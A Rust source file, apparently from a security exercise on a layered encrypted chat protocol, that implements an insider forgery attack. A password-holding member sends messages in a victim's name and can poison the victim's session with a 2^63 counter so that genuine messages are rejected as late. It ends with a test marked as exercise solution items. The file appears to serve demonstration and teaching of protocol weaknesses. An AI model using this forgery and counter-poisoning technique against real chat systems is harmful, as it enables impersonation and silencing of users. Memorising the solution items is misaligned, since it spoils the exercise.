//! A member who knows the password speaks as another member (issue 13).
//!
//! Through a server in the original's trust model, which relays a message
//! from any connection for any joined nick, the insider sends a message that
//! claims to come from the victim, made the best way a member of its layer
//! can:
//!
//! - plain and AE: the victim's nick on the frame (AE seals only the text,
//!   with the password the insider knows);
//! - AEAD: the victim's nick sealed inside the token with the shared
//!   password, exactly as the victim's own client seals it;
//! - signed: the same, signed with the insider's own key, the only one it
//!   has: receivers that pinned the victim's key refuse it.
//!
//! With `poison_counter`, the forgery carries the victim's session, read
//! from a frame of the victim's that the insider opens with the password,
//! and a counter of 2^63: an AEAD receiver then takes every genuine message
//! of that session as late. The plain and AE layers keep no counters, so
//! there is nothing to poison, and their forgery is sent as without it.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use crate::client::{BroadcastChannel, ClientError, Endpoint, RequestChannel};
use crate::layer::ae_client::{AeSealer, sealed_body};
use crate::layer::aead_client::{AeadSealer, Draft};
use crate::layer::keys::crypto::{self, Salt};
use crate::layer::plaintext::SealedPlaintext;
use crate::layer::signed_client::{SignedFields, SignedPlaintext};
use crate::layer::{AeSettings, Fingerprint, Identity, Layer, SealError};
use crate::wire::{Broadcast, MessageBody, Nick, Request, Response, Sealed};

/// What the victim is made to say unless told otherwise (`--message`).
pub const DEFAULT_MESSAGE: &str = "I resign";

/// The counter a poisoned forgery carries: 2^63, so far ahead of any real
/// one that the victim's genuine messages all look late afterwards.
pub const POISONED_SEQ: u64 = 1 << 63;

/// What the insider knows and holds: the chat's password (the encrypted
/// layers) and, in the signed layer, a key pair of its own.
#[derive(Debug, Default)]
pub struct Insider {
    pub settings: Option<AeSettings>,
    pub identity: Option<Identity>,
}

/// The message to forge.
#[derive(Debug, Clone)]
pub struct Forgery {
    pub victim: Nick,
    pub text: String,
    /// Carry the victim's session and a counter of [`POISONED_SEQ`].
    pub poison_counter: bool,
}

/// What the insider sent, and what the server answered.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Report {
    pub layer: Layer,
    pub victim: Nick,
    /// What the message field says, as the layer's receivers read it: the
    /// text in clear, or the plaintext inside the token.
    pub sent: String,
    /// The victim's session, read from one of its frames (poisoning only).
    pub captured_session: Option<String>,
    /// The counter sent, when the layer has counters.
    pub seq: Option<u64>,
    /// The insider's own key, in the signed layer: what receivers that
    /// pinned the victim's see instead.
    pub signed_by: Option<Fingerprint>,
    pub response: Response,
}

impl Report {
    /// Whether the server broadcast the forgery (receivers judge it then).
    pub fn relayed(&self) -> bool {
        self.response == Response::Ok
    }
}

/// Why no forgery was sent.
#[derive(Debug, thiserror::Error)]
pub enum ForgeError {
    #[error(transparent)]
    Client(#[from] ClientError),
    #[error(transparent)]
    Seal(#[from] SealError),
    #[error("the {0} layer's forgery needs the chat's password")]
    NoPassword(Layer),
    #[error("the signed layer's forgery needs a key pair of the insider's own")]
    NoIdentity,
    #[error("no message from '{victim}' within {} s, so no session to poison", .waited.as_secs())]
    NothingCaptured { victim: Nick, waited: Duration },
}

/// An insider connected to a server: it sends on the request port and, to
/// capture the victim's session, reads the broadcast port.
pub struct InsiderForge {
    layer: Layer,
    insider: Insider,
    requests: RequestChannel,
    broadcasts: BroadcastChannel,
}

impl InsiderForge {
    /// Connects to `endpoint` as a member of `layer` would.
    pub fn connect(
        endpoint: &Endpoint,
        layer: Layer,
        insider: Insider,
    ) -> Result<Self, ForgeError> {
        let endpoint = endpoint.clone().with_zmq_body(layer.zmq_body());
        let broadcasts = BroadcastChannel::connect(&endpoint)?;
        let requests = RequestChannel::connect(&endpoint)?;
        Ok(Self {
            layer,
            insider,
            requests,
            broadcasts,
        })
    }

    /// The broadcast connection's address, as the server sees it: every
    /// frame published once the server has registered it is read here.
    pub fn subscriber(&self) -> std::io::Result<SocketAddr> {
        self.broadcasts.local_addr()
    }

    /// Sends the forgery; to poison a counter, first waits up to `wait`
    /// for a message from the victim.
    pub fn forge(&mut self, forgery: &Forgery, wait: Duration) -> Result<Report, ForgeError> {
        let captured = match (forgery.poison_counter, self.counted()) {
            (true, Some(settings)) => Some(self.capture(&forgery.victim, &settings, wait)?),
            _ => None,
        };
        let Forged { body, sent, seq } = self.seal(forgery, captured.as_deref())?;
        let response = self.requests.request(&Request::Message {
            nick: forgery.victim.clone(),
            body,
        })?;
        Ok(Report {
            layer: self.layer,
            victim: forgery.victim.clone(),
            sent,
            captured_session: captured,
            seq,
            signed_by: self.signer(),
            response,
        })
    }

    /// The fingerprint of the key the forgery is signed with, if it is.
    fn signer(&self) -> Option<Fingerprint> {
        let identity = self.insider.identity.as_ref();
        identity
            .filter(|_| self.layer == Layer::Signed)
            .map(Identity::fingerprint)
    }

    /// The settings of a layer that keeps counters.
    fn counted(&self) -> Option<AeSettings> {
        let settings = self.insider.settings.clone();
        settings.filter(|_| self.layer.keeps_counters())
    }

    /// The forgery, made as the layer's members make messages.
    fn seal(&self, forgery: &Forgery, session: Option<&str>) -> Result<Forged, ForgeError> {
        let (victim, text) = (forgery.victim.as_str(), forgery.text.as_str());
        let settings = self.insider.settings.as_ref();
        let password = || settings.ok_or(ForgeError::NoPassword(self.layer));
        match self.layer {
            Layer::Plain => Ok(Forged::in_clear(text)),
            Layer::Ae => Forged::ae(password()?, text),
            Layer::Aead => Forged::aead(password()?, victim, text, session),
            Layer::Signed => {
                let identity = self.insider.identity.as_ref();
                let identity = identity.ok_or(ForgeError::NoIdentity)?;
                Forged::signed(password()?, identity, victim, text, session)
            }
        }
    }

    /// Reads broadcasts until the victim's first message that opens with
    /// the password; its session.
    fn capture(
        &mut self,
        victim: &Nick,
        settings: &AeSettings,
        wait: Duration,
    ) -> Result<String, ForgeError> {
        let deadline = Instant::now() + wait;
        let keys = settings.message_keys();
        let nothing = || ForgeError::NothingCaptured {
            victim: victim.clone(),
            waited: wait,
        };
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Err(nothing());
            }
            self.broadcasts
                .set_read_timeout(Some(left))
                .map_err(ClientError::from)?;
            let codec = self.broadcasts.codec();
            let frame = match self.broadcasts.next_frame() {
                Ok(frame) => frame,
                Err(_) if Instant::now() >= deadline => return Err(nothing()),
                Err(e) => return Err(e.into()),
            };
            let Ok(Broadcast::Message {
                nick,
                body: Some(body),
            }) = codec.decode_broadcast(frame)
            else {
                continue;
            };
            if nick != victim.as_str() {
                continue;
            }
            if let Some(session) = sealed_body(&body).ok().and_then(|s| session_of(&keys, s)) {
                return Ok(session);
            }
        }
    }
}

/// A forged `message` field, what it says inside, and its counter.
struct Forged {
    body: MessageBody<'static>,
    sent: String,
    seq: Option<u64>,
}

impl Forged {
    fn in_clear(text: &str) -> Self {
        Self {
            body: MessageBody::Text(text.to_owned().into()),
            sent: text.to_owned(),
            seq: None,
        }
    }

    /// AE seals the text alone.
    fn ae(settings: &AeSettings, text: &str) -> Result<Self, ForgeError> {
        let sealed = AeSealer::new(settings).encrypt_message(text.as_bytes());
        Ok(Self {
            body: MessageBody::Sealed(sealed.map_err(SealError::from)?),
            sent: text.to_owned(),
            seq: None,
        })
    }

    /// AEAD's plaintext under the victim's nick, with the captured session
    /// and [`POISONED_SEQ`] if there is a session to poison.
    fn aead(
        settings: &AeSettings,
        victim: &str,
        text: &str,
        session: Option<&str>,
    ) -> Result<Self, ForgeError> {
        let (mut sent, mut seq) = (String::new(), None);
        let sealed = AeadSealer::new(settings).encrypt_plaintext(|draft| {
            let plaintext = poisoned(draft.plaintext(victim, text), session);
            (sent, seq) = (json(&plaintext), plaintext.seq);
            plaintext
        })?;
        Ok(Self {
            body: MessageBody::Sealed(sealed),
            sent,
            seq,
        })
    }

    /// The same, signed with the insider's own key.
    fn signed(
        settings: &AeSettings,
        identity: &Identity,
        victim: &str,
        text: &str,
        session: Option<&str>,
    ) -> Result<Self, ForgeError> {
        let (mut sent, mut seq) = (String::new(), None);
        let sealed = AeadSealer::new(settings).encrypt_plaintext(|draft| {
            let fields = signed_fields(draft, victim, text, session);
            let plaintext = SignedPlaintext::sign(&fields, identity);
            (sent, seq) = (json(&plaintext), Some(fields.seq));
            plaintext
        })?;
        Ok(Self {
            body: MessageBody::Sealed(sealed),
            sent,
            seq,
        })
    }
}

/// AEAD's plaintext, with the captured session and [`POISONED_SEQ`] if
/// there is a session to poison.
fn poisoned<'a>(
    mut plaintext: SealedPlaintext<'a>,
    session: Option<&'a str>,
) -> SealedPlaintext<'a> {
    if let Some(session) = session {
        plaintext.session = Some(session.into());
        plaintext.seq = Some(POISONED_SEQ);
    }
    plaintext
}

/// The signed layer's fields, poisoned the same way.
fn signed_fields<'a>(
    draft: &Draft<'a>,
    victim: &'a str,
    text: &'a str,
    session: Option<&'a str>,
) -> SignedFields<'a> {
    let fields = SignedFields::of_draft(draft, victim, text);
    match session {
        Some(session) => SignedFields {
            session,
            seq: POISONED_SEQ,
            ..fields
        },
        None => fields,
    }
}

/// The session sealed in a frame, if the password opens it.
fn session_of(keys: &crate::layer::keys::kdf::MessageKeys, sealed: &Sealed<'_>) -> Option<String> {
    let salt = Salt::from_base64(&sealed.salt).ok()?;
    let (_, plaintext) = crypto::open_token(&keys.key(&salt), &sealed.token).ok()?;
    let plaintext = SealedPlaintext::parse(&plaintext).ok()?;
    plaintext.session.map(|s| s.into_owned())
}

fn json<T: serde::Serialize>(value: &T) -> String {
    serde_json::to_string(value).unwrap_or_default()
}

// BEGIN SOLUTION ITEMS (step 7: an AEAD plaintext spelled out)
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_poisoned_plaintext_carries_the_victims_session_and_2_to_the_63() {
        let draft = Draft {
            room: "lobby",
            session: "mine",
            seq: 0,
            sent_at: 1,
        };
        let plaintext = poisoned(draft.plaintext("alice", "I resign"), Some("hers"));
        assert_eq!(
            json(&plaintext),
            r#"{"nick":"alice","message":"I resign","room":"lobby","seq":9223372036854775808,"session":"hers"}"#
        );
        let fields = signed_fields(&draft, "alice", "I resign", None);
        assert_eq!((fields.session, fields.seq), ("mine", 0));
    }
}
// END SOLUTION ITEMS
